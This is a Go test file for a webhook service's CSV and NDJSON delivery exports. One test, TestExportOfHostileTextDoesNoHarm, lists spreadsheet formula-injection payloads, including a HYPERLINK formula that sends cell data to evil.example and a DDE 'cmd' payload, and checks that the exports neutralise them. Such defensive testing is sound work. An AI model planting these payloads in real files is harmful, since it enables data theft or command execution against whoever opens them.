package web_test

import (
	"bufio"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"stackhook/models"
	"stackhook/models/store/storetest"
	"stackhook/views"
	"stackhook/web/webtest"
)

// csvOf reads a CSV file strictly: the head's names, and each row by them.
func csvOf(t *testing.T, body string) (head []string, rows []map[string]string) {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(lines) == 0 {
		t.Fatalf("%v in\n%.2000s", err, body)
	}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, cell := range line {
			row[lines[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return lines[0], rows
}

// linesOf reads a file of a JSON object a line.
func linesOf(t *testing.T, body string) (rows []map[string]any) {
	t.Helper()
	scanner := bufio.NewScanner(strings.NewReader(body))
	scanner.Buffer(nil, 1<<20)
	for scanner.Scan() {
		var row map[string]any
		if err := json.Unmarshal(scanner.Bytes(), &row); err != nil {
			t.Fatalf("%v in %s", err, scanner.Text())
		}
		rows = append(rows, row)
	}
	if err := scanner.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

func column[T comparable](rows []map[string]T, name string) []T {
	var values []T
	for _, row := range rows {
		values = append(values, row[name])
	}
	return values
}

func TestExportIsWhatTheFilterShows(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	l := fillLog(t, site, "net")
	fillLog(t, site, "other")
	admin := site.As(t, "admin")
	for query, want := range map[string][]string{
		"":                           {l.badFinished, l.goodFinished, l.badQueued, l.goodQueued},
		"status=failed&state=QUEUED": {l.badQueued},
		"reason=status_5xx&code=503": {l.badFinished},
		"webhook=" + l.good.ID:       {l.goodFinished, l.goodQueued},
		"run=" + l.run.ID:            {l.badFinished, l.goodFinished, l.badQueued, l.goodQueued},
		"id=" + l.badQueued:          {l.badQueued},
		"status=skipped":             nil,
	} {
		for path, rest := range map[string]string{views.DeliveriesPath("net"): query, views.AllDeliveriesPath: "stack=net&" + query} {
			page := admin.GET(path + ".csv?" + rest)
			head, rows := csvOf(t, page.Body)
			if got := column(rows, "id"); page.Status != http.StatusOK || !slices.Equal(got, want) || head[0] != "id" {
				t.Errorf("%s.csv?%s: %d %v, want %v", path, rest, page.Status, got, want)
			}
			var got []string
			for _, id := range column(linesOf(t, admin.GET(path+".ndjson?"+rest).Body), "id") {
				got = append(got, id.(string))
			}
			if !slices.Equal(got, want) {
				t.Errorf("%s.ndjson?%s: %v, want %v", path, rest, got, want)
			}
		}
	}
}

func TestExportSaysWhatAReceiverNeeds(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	l := fillLog(t, site, "net")
	admin := site.As(t, "admin")
	page := admin.GET(views.DeliveriesPath("net") + ".csv?id=" + l.goodFinished)
	_, rows := csvOf(t, page.Body)
	d, err := site.Store.Delivery(t.Context(), l.stack, l.goodFinished)
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"id": d.ID, "stack": "net", "stackName": "net", "webhook": l.good.ID, "webhookHost": "good.example", "run": l.run.ID, "state": "FINISHED",
		"stateVersion": "1", "test": "false", "status": "delivered", "reason": "", "code": "204", "attempt": "1", "milliseconds": "84",
		"createdAt": d.CreatedAt.UTC().Format(time.RFC3339), "dueAt": "", "deliveredAt": d.FirstDelivered.UTC().Format(time.RFC3339),
		"endedAt": d.EndedAt.UTC().Format(time.RFC3339), "redeliveredAt": "",
	} {
		if rows[0][name] != want {
			t.Errorf("%s is %q, want %q", name, rows[0][name], want)
		}
	}
	if len(rows[0]) != 19 || !strings.Contains(page.Body, "\r\n") {
		t.Errorf("%q", page.Body)
	}
	lines := admin.GET(views.DeliveriesPath("net") + ".ndjson?id=" + l.badFinished)
	row := linesOf(t, lines.Body)[0]
	for name, want := range map[string]any{
		"stack": "net", "stackName": "net", "webhookHost": "bad.example", "reason": "status_5xx", "code": 503.0, "attempt": 1.0, "milliseconds": 1000.0, "stateVersion": 1.0,
	} {
		if row[name] != want {
			t.Errorf("%s is %v, want %v", name, row[name], want)
		}
	}
	// The API's fields, with the API's values.
	p := program{t, site, token(t, site, models.ScopeRead, l.stack.Key)}
	for name, want := range p.call("GET", "/api/v1/stacks/net/deliveries?id="+l.badFinished, "").body["deliveries"].([]any)[0].(map[string]any) {
		if row[name] != want {
			t.Errorf("%s is %v, the API says %v", name, row[name], want)
		}
	}
	for kind, answer := range map[string]*webtest.Page{"text/csv; charset=utf-8": page, "application/x-ndjson": lines} {
		if got := answer.Header.Get("Content-Type"); got != kind {
			t.Errorf("%s, not %s", got, kind)
		}
		// An endpoint's path may be a secret, as those of chat services are; the file goes to others.
		if strings.Contains(answer.Body, "/a?b=1") || strings.Contains(answer.Body, "https:") {
			t.Errorf("the endpoint's path is in\n%s", answer.Body)
		}
	}
}

func TestExportIsAFile(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	stack := storetest.Stack(t, site.Store, "net")
	admin := site.As(t, "admin")
	for path, name := range map[string]string{views.DeliveriesPath(stack.ID): "stackhook-net-deliveries-", views.AllDeliveriesPath: "stackhook-deliveries-"} {
		for ending, empty := range map[string]bool{".csv": false, ".ndjson": true} {
			for _, method := range []string{http.MethodGet, http.MethodHead} {
				page := admin.Do(admin.Request(method, path+ending, nil))
				disposition := page.Header.Get("Content-Disposition")
				stamp, rest := strings.CutPrefix(disposition, `attachment; filename="`+name)
				if _, err := time.Parse(`20060102-150405`+ending+`"`, stamp); err != nil || !rest || page.Status != http.StatusOK {
					t.Errorf("%s %s: %d %s, %v", method, path+ending, page.Status, disposition, err)
				}
				if (page.Body == "") != (empty || method == http.MethodHead) {
					t.Errorf("%s %s: %q", method, path+ending, page.Body)
				}
			}
		}
	}
	for query, want := range map[string]int{"code=abc": 422, "stack=unknown": 422, "status=odd": 422, "q=" + strings.Repeat("7", 26): 422, "older=0": 200} {
		page := admin.GET(views.AllDeliveriesPath + ".csv?" + query)
		if page.Status != want || (page.Header.Get("Content-Disposition") != "") != (want == 200) {
			t.Errorf("%s: %d %s", query, page.Status, page.Header.Get("Content-Disposition"))
		}
	}
}

func TestExportHasWhatTheReaderReads(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	mine, other := fillLog(t, site, "mine"), fillLog(t, site, "other")
	site.Grant(t, mine.stack)
	reader := site.As(t, "reader")
	for _, query := range []string{"", "?webhook=" + other.good.ID, "?run=" + other.run.ID, "?id=" + other.badQueued} {
		for _, ending := range []string{".csv", ".ndjson"} {
			page := reader.GET(views.AllDeliveriesPath + ending + query)
			if strings.Contains(page.Body, "other") || strings.Count(page.Body, mine.run.ID) != map[bool]int{true: 4}[query == ""] {
				t.Errorf("%s%s: %s", ending, query, page.Body)
			}
		}
	}
}

// Whatever a database holds, a file shows it and does nothing.
func TestExportOfHostileTextDoesNoHarm(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	l := fillLog(t, site, "net")
	db, err := sql.Open("sqlite3", site.Database)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	admin := site.As(t, "admin")
	hostiles := map[string]string{
		"formula": `=HYPERLINK("https://evil.example/?"&A1,"open")`, "plus": "+1+cmd|' /C calc'!A0", "minus": "-1", "at": "@SUM(A1)", "tab": "\t=1",
		"return": "\r=1", "blank": "  =1", "wide": "＝1", "wide at": "＠SUM(A1)", "lines": "one\ntwo\r\nthree", "quotes": `a "b", 'c'; d`,
		"NUL": "a\x00b", "separator": "a\u2028b\u0085c", "comma": ",,,\r\n=1,", "hidden first": "\u200b\ufeff=1",
	}
	for name, c := range hostile {
		hostiles[name] = c.received
	}
	for name, text := range hostiles {
		for table, columns := range map[string]string{"deliveries": "run_id = ?1, reason = ?1, state = ?1", "webhooks": "endpoint = ?1, endpoint_host = ?1", "stacks": "name = ?1"} {
			if _, err := db.Exec("UPDATE "+table+" SET "+columns, text); err != nil {
				t.Fatal(err)
			}
		}
		page := admin.GET(views.DeliveriesPath(l.stack.ID) + ".csv")
		expectShown(t, name, page.Body)
		_, rows := csvOf(t, page.Body)
		if len(rows) != 4 {
			t.Fatalf("%s: %d %.500q", name, page.Status, page.Body)
		}
		if len(rows[0]) != 19 || strings.Contains(strings.ReplaceAll(page.Body, "\r\n", ""), "\r") {
			t.Fatalf("%s: %d rows of %d", name, len(rows), len(rows[0]))
		}
		for column, cell := range rows[0] {
			cell = strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) && r != '\t' })
			if cell != "" && strings.ContainsRune("=+-@\t＝＋－＠", []rune(cell)[0]) {
				t.Errorf("%s: %s is %q", name, column, cell)
			}
		}
		if got, want := rows[0]["run"], strings.ReplaceAll(views.Cell(text), "\r\n", "\n"); got != want {
			t.Errorf("%s: the run is %.200q, want %.200q", name, got, want)
		}
		lines := admin.GET(views.DeliveriesPath(l.stack.ID) + ".ndjson")
		expectShown(t, name, lines.Body)
		for _, column := range []string{"run", "reason", "state", "webhookHost", "stackName"} {
			if got := linesOf(t, lines.Body)[0][column]; got != string([]rune(text)) {
				t.Errorf("%s: %s is %.200q, want %.200q", name, column, got, text)
			}
		}
		if strings.Count(lines.Body, "\n") != 4 {
			t.Errorf("%s: %d lines", name, strings.Count(lines.Body, "\n"))
		}
	}
}

// expectShown checks that a terminal which shows the text shows all of it and obeys none of it.
func expectShown(t *testing.T, name, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\r' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u200b') {
			t.Errorf("%s: %q is in it", name, strconv.QuoteRuneToASCII(r))
			return
		}
	}
}

func TestLogLeadsToItsExports(t *testing.T) {
	t.Parallel()
	site := webtest.New(t)
	l := fillLog(t, site, "net")
	admin := site.As(t, "admin")
	filter := url.Values{"status": {"failed"}, "reason": {"timeout"}, "webhook": {l.bad.ID}}.Encode()
	for _, path := range []string{views.DeliveriesPath("net"), views.AllDeliveriesPath} {
		page := admin.GET(path + "?" + filter)
		for _, ending := range []string{".csv", ".ndjson"} {
			link := page.Doc.Find(".page-head .menu-panel a[href^='"+path+ending+"']").AttrOr("href", "")
			if link != path+ending+"?"+filter {
				t.Errorf("%s leads to %q", path, link)
			}
			if body := admin.GET(link).Body; !strings.Contains(body, l.badQueued) || strings.Contains(body, l.goodQueued) {
				t.Errorf("%s: %s", link, body)
			}
		}
		if older := admin.GET(path + "?older=7" + strings.Repeat("Z", 25)); older.Doc.Find(".menu-panel a[href='"+path+".csv']").Length() != 1 {
			t.Errorf("%s: an export of a page", path)
		}
		if bad := admin.GET(path + "?code=abc"); bad.Doc.Find("a[href*='.csv']").Length() != 0 {
			t.Errorf("%s: an export of a filter that means nothing", path)
		}
	}
}
